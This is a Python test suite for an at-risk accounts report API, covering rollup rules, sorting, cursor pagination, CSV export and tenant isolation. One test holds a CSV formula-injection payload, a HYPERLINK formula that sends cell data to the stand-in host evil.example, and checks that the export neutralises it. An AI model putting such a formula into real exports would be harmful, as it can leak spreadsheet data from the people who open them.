"""The at-risk list: accounts in `at_risk`, each with the response that decided its bucket."""

import csv
import io
import json
from typing import Any

import httpx
import pytest

from app.schemas import encode_cursor
from tests.helpers import assert_problem
from tests.test_coverage import EARLY, add_responses, add_revenue, answer, coverage
from tests.test_rollup import RULES, load_worked_example


async def at_risk(api: httpx.AsyncClient, **params: Any) -> dict[str, Any]:
    response = await api.get("/v1/reports/at-risk", params={"period": "2026-Q1", **params})
    assert response.status_code == 200, response.text
    page: dict[str, Any] = response.json()
    return page


async def all_items(api: httpx.AsyncClient, **params: Any) -> list[dict[str, Any]]:
    """Walk every page of the at-risk list and return the items in order."""
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        extra: dict[str, str] = {} if cursor is None else {"cursor": cursor}
        page = await at_risk(api, **params, **extra)
        items.extend(page["items"])
        cursor = page["next_cursor"]
        if cursor is None:
            return items


async def load_five_detractors(api: httpx.AsyncClient) -> None:
    """D1-D5 at risk (D2 and D3 share a revenue), P passive, S safe, U silent."""
    await add_revenue(
        api,
        ("D1", "500.00", EARLY),
        ("D2", "300.00", EARLY),
        ("D3", "300.00", EARLY),
        ("D4", "200.00", EARLY),
        ("D5", "100.00", EARLY),
        ("P", "1000.00", EARLY),
        ("S", "2000.00", EARLY),
        ("U", "3000.00", EARLY),
    )
    await add_responses(
        api,
        answer("d1", "D1", 6, "2026-01-05T00:00:00Z"),
        answer("d2", "D2", 0, "2026-01-04T00:00:00Z"),
        answer("d3", "D3", 3, "2026-01-03T00:00:00Z"),
        answer("d4", "D4", 5, "2026-01-02T00:00:00Z"),
        answer("d5", "D5", 1, "2026-01-01T00:00:00Z"),
        answer("p", "P", 8),
        answer("s", "S", 10),
    )


class TestAtRiskItems:
    async def test_item_shape(self, api: httpx.AsyncClient) -> None:
        await add_revenue(api, ("C", "50000.00", EARLY))
        await add_responses(
            api,
            answer("c", "C", 6, "2026-02-01T12:00:00Z", email="Pat@C.example", comment="Slow"),
        )

        page = await at_risk(api)

        assert page == {
            "items": [
                {
                    "account_external_id": "C",
                    "name": None,
                    "revenue": "50000.00",
                    "score": 6,
                    "comment": "Slow",
                    "email": "Pat@C.example",
                    "submitted_at": "2026-02-01T12:00:00Z",
                }
            ],
            "next_cursor": None,
        }

    @pytest.mark.parametrize(
        ("rollup", "expected"),
        [
            ("latest", [("C", 6)]),
            ("average", [("C", 6)]),
            ("lowest", [("A", 4), ("C", 6)]),
            ("decision_maker", [("A", 4), ("C", 6)]),
            ("account_nps", [("C", 6)]),
        ],
    )
    async def test_worked_example_per_rule(
        self, api: httpx.AsyncClient, rollup: str, expected: list[tuple[str, int]]
    ) -> None:
        await load_worked_example(api)

        page = await at_risk(api, rollup=rollup)

        found = [(item["account_external_id"], item["score"]) for item in page["items"]]
        assert found == expected

    async def test_deciding_response_is_lowest_counted(self, api: httpx.AsyncClient) -> None:
        await add_revenue(api, ("A", "100.00", EARLY))
        await add_responses(
            api,
            answer("a1", "A", 2, "2026-01-10T00:00:00Z", email="one@a.example"),
            answer("a2", "A", 9, "2026-01-11T00:00:00Z", email="two@a.example"),
            answer("a3", "A", 3, "2026-01-12T00:00:00Z", email="one@a.example"),
            answer("a4", "A", 4, "2026-01-13T00:00:00Z", email="three@a.example"),
        )

        page = await at_risk(api, rollup="average")

        # one@ counts only with its latest response (3), so a1's 2 does not decide.
        [item] = page["items"]
        assert item["score"] == 3
        assert item["email"] == "one@a.example"

    async def test_revenue_matches_coverage_bucket(self, api: httpx.AsyncClient) -> None:
        await load_worked_example(api)
        await load_five_detractors(api)

        for rollup in RULES:
            report = await coverage(api, period="2026-Q1", rollup=rollup)
            items = await all_items(api, rollup=rollup, limit=2)

            total = sum(int(item["revenue"].split(".")[0]) for item in items)
            assert f"{total}.00" == report["buckets"]["at_risk"]["revenue"], rollup
            assert len(items) == report["buckets"]["at_risk"]["accounts"], rollup

    async def test_zero_revenue_account_not_listed(self, api: httpx.AsyncClient) -> None:
        await add_revenue(
            api,
            ("A", "100.00", EARLY),
            ("B", "100.00", EARLY),
            ("B", "0.00", "2026-01-15T00:00:00Z"),
        )
        await add_responses(api, answer("a", "A", 1), answer("b", "B", 1))

        page = await at_risk(api)

        assert [item["account_external_id"] for item in page["items"]] == ["A"]


class TestAtRiskOrder:
    async def test_revenue_descending_by_default(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)

        items = await all_items(api)

        assert [item["account_external_id"] for item in items] == ["D1", "D2", "D3", "D4", "D5"]

    @pytest.mark.parametrize(
        ("sort", "expected"),
        [
            ("revenue", ["D5", "D4", "D2", "D3", "D1"]),
            ("-revenue", ["D1", "D2", "D3", "D4", "D5"]),
            ("score", ["D2", "D5", "D3", "D4", "D1"]),
            ("-score", ["D1", "D4", "D3", "D5", "D2"]),
            ("submitted_at", ["D5", "D4", "D3", "D2", "D1"]),
            ("-submitted_at", ["D1", "D2", "D3", "D4", "D5"]),
        ],
    )
    @pytest.mark.parametrize("limit", [1, 2, 100])
    async def test_sort_and_pages(
        self, api: httpx.AsyncClient, sort: str, expected: list[str], limit: int
    ) -> None:
        await load_five_detractors(api)

        items = await all_items(api, sort=sort, limit=limit)

        assert [item["account_external_id"] for item in items] == expected

    async def test_page_size_and_cursor(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)

        first = await at_risk(api, limit=2)
        second = await at_risk(api, limit=2, cursor=first["next_cursor"])
        last = await at_risk(api, limit=2, cursor=second["next_cursor"])

        assert [item["account_external_id"] for item in first["items"]] == ["D1", "D2"]
        assert [item["account_external_id"] for item in second["items"]] == ["D3", "D4"]
        assert [item["account_external_id"] for item in last["items"]] == ["D5"]
        assert last["next_cursor"] is None

    async def test_empty_cursor_first_page(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)

        first = await at_risk(api, limit=2)
        empty = await at_risk(api, limit=2, cursor="")

        assert empty == first

    async def test_cursor_of_other_sort_rejected(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)
        first = await at_risk(api, limit=2)

        response = await api.get(
            "/v1/reports/at-risk",
            params={"period": "2026-Q1", "sort": "score", "cursor": first["next_cursor"]},
        )

        assert response.status_code == 422
        assert response.headers["content-type"] == "application/problem+json"

    @pytest.mark.parametrize("cursor", ["garbage", "eyJhZnRlciI6MX0"])
    async def test_bad_cursor_rejected(self, api: httpx.AsyncClient, cursor: str) -> None:
        response = await api.get("/v1/reports/at-risk", params={"cursor": cursor})

        assert response.status_code == 422

    @pytest.mark.parametrize("account", ["R-\x00", "R-\ud800"])
    async def test_cursor_account_not_text_rejected(
        self, api: httpx.AsyncClient, account: str
    ) -> None:
        cursor = encode_cursor(json.dumps(["-revenue", "300.0000", account]))

        response = await api.get(
            "/v1/reports/at-risk", params={"period": "2026-Q1", "cursor": cursor}
        )

        problem = assert_problem(response, 422)
        assert problem["detail"].startswith("Invalid cursor")
        assert [error["location"] for error in problem["errors"]] == ["query.cursor"]

    @pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 1001}, {"sort": "name"}])
    async def test_bad_parameters_rejected(
        self, api: httpx.AsyncClient, params: dict[str, Any]
    ) -> None:
        response = await api.get("/v1/reports/at-risk", params=params)

        assert response.status_code == 422


class TestAtRiskCsv:
    async def test_whole_list_as_csv(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)
        await add_revenue(api, ("Q", "12345678901234.56", EARLY))
        await add_responses(
            api, answer("q", "Q", 2, "2026-03-01T00:00:00Z", comment='He said "no", twice')
        )

        response = await api.get(
            "/v1/reports/at-risk",
            params={"period": "2026-Q1", "limit": 1},
            headers={"Accept": "text/csv"},
        )

        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.text)))
        assert rows[0] == [
            "account_external_id",
            "name",
            "revenue",
            "score",
            "comment",
            "email",
            "submitted_at",
        ]
        assert [row[0] for row in rows[1:]] == ["Q", "D1", "D2", "D3", "D4", "D5"]
        assert rows[1][2] == "12345678901234.56"
        assert rows[1][3] == "2"
        assert rows[1][4] == 'He said "no", twice'
        assert rows[1][6] == "2026-03-01T00:00:00+00:00"

    async def test_json_when_csv_not_accepted(self, api: httpx.AsyncClient) -> None:
        await load_five_detractors(api)

        response = await api.get(
            "/v1/reports/at-risk",
            params={"period": "2026-Q1"},
            headers={"Accept": "text/csv;q=0, application/json"},
        )

        assert response.headers["content-type"] == "application/json"
        assert len(response.json()["items"]) == 5


class TestAtRiskTenants:
    async def test_other_tenant_never_listed(
        self, api: httpx.AsyncClient, other_api: httpx.AsyncClient
    ) -> None:
        await load_five_detractors(api)
        await add_revenue(other_api, ("D1", "999.00", EARLY))
        await add_responses(other_api, answer("other", "D1", 0))

        mine = await all_items(api)
        theirs = await all_items(other_api)
        theirs_csv = await other_api.get(
            "/v1/reports/at-risk", params={"period": "2026-Q1"}, headers={"Accept": "text/csv"}
        )

        assert [item["revenue"] for item in mine][0] == "500.00"
        assert theirs == [
            {
                "account_external_id": "D1",
                "name": None,
                "revenue": "999.00",
                "score": 0,
                "comment": None,
                "email": "other@example.com",
                "submitted_at": "2026-02-01T12:00:00Z",
            }
        ]
        assert len(theirs_csv.text.strip().splitlines()) == 2


async def test_csv_formulas_neutralised(api: httpx.AsyncClient) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    put = await api.put(
        "/v1/accounts/=1+2",
        json={
            "name": name,
            "revenue": {
                "amount": "1000.00",
                "currency": "USD",
                "effective_at": "2026-01-01T00:00:00Z",
            },
        },
    )
    posted = await api.post(
        "/v1/responses",
        json={
            "responses": [
                {
                    "source": "native",
                    "response_id": "formula",
                    "account_external_id": "=1+2",
                    "email": "@evil@x.com",
                    "score": 2,
                    "comment": "-2+3",
                    "submitted_at": "2026-02-01T00:00:00Z",
                }
            ]
        },
    )

    csv_text = (
        await api.get(
            "/v1/reports/at-risk", params={"period": "2026-Q1"}, headers={"Accept": "text/csv"}
        )
    ).text
    row = next(csv.reader(io.StringIO(csv_text.splitlines()[1])))

    assert put.status_code == 201, put.text
    assert posted.status_code == 200, posted.text
    assert row[0] == "'=1+2"
    assert row[1] == "'" + name
    assert "'-2+3" in row
    assert "'@evil@x.com" in row


@pytest.mark.parametrize(
    ("accept", "csv_expected"),
    [
        ("text/csv", True),
        ("text/csv, */*;q=0.8", True),
        ("application/json, text/csv;q=0.1", False),
        ("*/*", False),
        ("text/csv;q=0", False),
        ("application/json", False),
    ],
)
async def test_accept_preference_respected(
    api: httpx.AsyncClient, accept: str, csv_expected: bool
) -> None:
    answered = await api.get(
        "/v1/reports/at-risk", params={"period": "2026-Q1"}, headers={"Accept": accept}
    )

    assert answered.status_code == 200, answered.text
    assert answered.headers["content-type"].startswith("text/csv") is csv_expected
